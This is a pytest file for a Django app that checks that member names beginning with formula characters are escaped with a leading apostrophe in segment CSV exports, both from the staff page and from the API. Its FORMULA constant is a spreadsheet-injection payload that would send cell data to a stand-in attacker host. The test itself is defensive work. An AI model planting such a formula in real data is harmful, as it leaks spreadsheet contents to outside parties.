"""A hostile review of the engagement pages: each test is an attack that once got through."""

import csv
import io

import pytest
from django.urls import reverse

from vafa.engage import services as engaging
from vafa.web.tests.test_engage_pages import login

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("sms_file")]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def test_a_name_that_is_a_formula_reaches_the_segment_csv_as_text(merchant, member_factory, api):
    # A member names themselves at joining; staff open the segment's CSV in a spreadsheet.
    member_factory(first_name=FORMULA, last_name="+1", organization_name="", consents={"sms": True})
    member_factory(first_name="-سارا", last_name="@x", consents={"sms": True})
    segment = engaging.segment_create(data={"name": "SMS", "conditions": {"consent": "sms"}})
    page = login("owner").get(reverse("manage:segment_csv", args=[segment.pk]))
    rows = _rows(b"".join(page.streaming_content))
    assert [(r[2], r[3]) for r in rows[1:]] == [("'" + FORMULA, "'+1"), ("'-سارا", "'@x")]
    response = api.get(f"/segments/{segment.pk}/members.csv")
    rows = _rows(b"".join(response.streaming_content))
    assert [(r[2], r[3]) for r in rows[1:]] == [("'" + FORMULA, "'+1"), ("'-سارا", "'@x")]
